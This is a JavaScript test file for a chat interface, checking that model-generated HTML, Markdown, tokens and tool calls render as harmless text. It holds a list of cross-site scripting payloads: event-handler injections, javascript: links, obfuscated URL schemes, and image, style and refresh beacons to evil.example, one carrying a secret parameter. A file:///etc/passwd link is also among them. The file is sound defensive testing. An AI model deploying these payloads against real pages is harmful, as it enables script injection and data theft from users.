// What a model may write to take over the page, or to make it tell somebody something.

import assert from "node:assert/strict";
import { test } from "node:test";
import { answered, ask, scripted, stream, withPage } from "./support.mjs";

const HOSTILE = [
  "<script>window.pwned=1</script>",
  "<img src=x onerror=window.pwned=1>",
  "<img src=http://evil.example/a.png>",
  "text <b onmouseover=window.pwned=1>bold</b> <iframe src=javascript:window.pwned=1></iframe>",
  "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>",
  "<style>*{background:url(http://evil.example/b)}</style>",
  "<meta http-equiv=refresh content='0;url=http://evil.example'>",
  "<form action=http://evil.example><input name=q></form>",
  "<base href=http://evil.example/>",
  "![pixel](http://evil.example/c.png?secret=1)",
  "![pixel](javascript:window.pwned=1)",
  "[click](javascript:window.pwned=1) [data](data:text/html,<script>window.pwned=1</script>) [blob](blob:x) [vb](vbscript:x)",
  "[upper](JaVaScRiPt:window.pwned=1) [tab](java&#9;script:window.pwned=1) [entity](&#106;avascript:window.pwned=1)",
  "[relative](/v1/models) [protocol](//evil.example) [file](file:///etc/passwd)",
  '[title](https://ok.example "x\\" onmouseover=\\"window.pwned=1")',
  "<javascript:window.pwned=1> <https://auto.example>",
  "[ref]\n\n[ref]: javascript:window.pwned=1 'title'",
  "```html\n<script>window.pwned=1</script>\n```",
  '```"><img src=x onerror=window.pwned=1>\ncode\n```',
  "`<img src=x onerror=window.pwned=1>` &lt;script&gt;window.pwned=1&lt;/script&gt; &#60;script&#62;",
  "| <img src=x onerror=window.pwned=1> | b |\n|---|---|\n| <script>window.pwned=1</script> | [x](javascript:1) |",
  "- [x] <input autofocus onfocus=window.pwned=1>",
  "<!-- --!><img src=x onerror=window.pwned=1> -->",
  "<a href=\"https://ok.example\" style=\"position:fixed;inset:0\">cover</a>",
  "<details open ontoggle=window.pwned=1>",
  "<div id=main class=status>clobber</div><a id=toasts name=toasts></a>",
  "__proto__ constructor ${window.pwned=1} {{constructor.constructor('window.pwned=1')()}}",
  "\u202Egnp.exe\u202C \u0000\u001b[31m",
].join("\n\n");

const ALLOWED_TAGS = new Set([
  "A", "BLOCKQUOTE", "BR", "BUTTON", "CODE", "DEL", "DIV", "EM", "H3", "H4", "H5", "H6", "HR", "INPUT", "LI", "OL", "P", "PRE", "SPAN", "STRONG",
  "TABLE", "TBODY", "TD", "TH", "THEAD", "TR", "UL", "svg", "path",
]);

/** Every element and attribute below the answers' text. */
function inventory() {
  return [...document.querySelectorAll(".prose *, .token-text *")].map((element) => ({
    tag: element.tagName, attributes: Object.fromEntries([...element.attributes].map(({ name, value }) => [name, value])),
  }));
}

function assertHarmless(elements) {
  for (const { tag, attributes } of elements) {
    assert.ok(ALLOWED_TAGS.has(tag), tag);
    for (const name of Object.keys(attributes)) assert.ok(!/^on|^style$|^src|^id$|^name$|^formaction$/.test(name), `${tag} ${name}`);
    if (tag === "INPUT") assert.equal(attributes.type, "checkbox");
    if (tag !== "A") continue;
    assert.match(attributes.href, /^(https?|mailto):/);
    assert.equal(attributes.target, "_blank");
    assert.match(attributes.rel, /\bnoopener\b.*\bnoreferrer\b/);
  }
}

export function hostileTests(server) {
  test("hostile Markdown and HTML stay text, whole and in any pieces", () => {
    const pieces = HOSTILE.match(/[^]{1,7}/g).map((content) => ({ content, reasoning_content: content }));
    return withPage(server, { prepare: (page) => scripted(page, [stream([{ content: HOSTILE }]), stream(pieces)]) }, async (page) => {
      for (const message of [HOSTILE, "again"]) {
        const answer = await answered(page, await ask(page, message));
        const elements = await page.evaluate(inventory);
        assert.ok(elements.length > 50);
        assertHarmless(elements);
        const text = await answer.locator(".answer-text").last().textContent();
        for (const visible of ["<script>window.pwned=1</script>", "<iframe src=javascript", "[image: pixel]"]) assert.ok(text.includes(visible), visible);
      }
      const links = await page.locator(".prose a").evaluateAll((all) => [...new Set(all.map((link) => link.getAttribute("href")))]);
      assert.deepEqual(links.sort(), ["http://evil.example/c.png?secret=1", "https://auto.example/", "https://ok.example/"]);
      await answered(page, 2);
      await page.getByText("Thought", { exact: true }).click();
      assertHarmless(await page.evaluate(inventory));
      await page.reload();
      await answered(page, 2);
      assertHarmless(await page.evaluate(inventory));
      assert.equal(await page.locator("main").count(), 1);
    });
  });

  test("hostile tokens and tool calls stay text", () => {
    const token = { token: "<img src=x onerror=window.pwned=1>", logprob: -0.1, bytes: null, top_logprobs: [{ token: "<svg onload=window.pwned=1>", logprob: -2, bytes: null }] };
    const chunk = { choices: [{ index: 0, delta: { content: "x", tool_calls: [{ index: 0, function: { name: "<b>", arguments: "<script>window.pwned=1</script>" } }] }, logprobs: { content: [token] }, finish_reason: null }] };
    const body = `data: ${JSON.stringify(chunk)}\n\n${stream([{ content: "y" }])}`;
    const settings = { "izar.scores": "true" };
    return withPage(server, { settings, prepare: (page) => scripted(page, [body]) }, async (page) => {
      const answer = await answered(page, await ask(page, "hello"));
      await answer.locator(".token").first().click();
      assert.match(await answer.locator(".token-detail").innerText(), /<svg␣onload/);
      assert.match(await answer.locator(".call").innerText(), /<b>\(\)\s*<script>/);
      assertHarmless(await page.evaluate(inventory));
    });
  });

  test("texts that are slow or deep to cut do not hold the page up", () => {
    const slow = [">".repeat(20_000), "[".repeat(20_000), "*a ".repeat(10_000), `${"|a".repeat(2000)}\n${"|-".repeat(2000)}`, "- ".repeat(3000), "x".repeat(300_000)];
    return withPage(server, { prepare: (page) => scripted(page, slow.map((content) => stream([{ content }]))) }, async (page) => {
      for (const index of slow.keys()) {
        const answer = await answered(page, await ask(page, `text ${index}`));
        assert.ok(await answer.locator(".answer-text > *").count() > 0, `text ${index}`);
      }
      await page.getByRole("button", { name: "New chat" }).click();
    });
  });
}
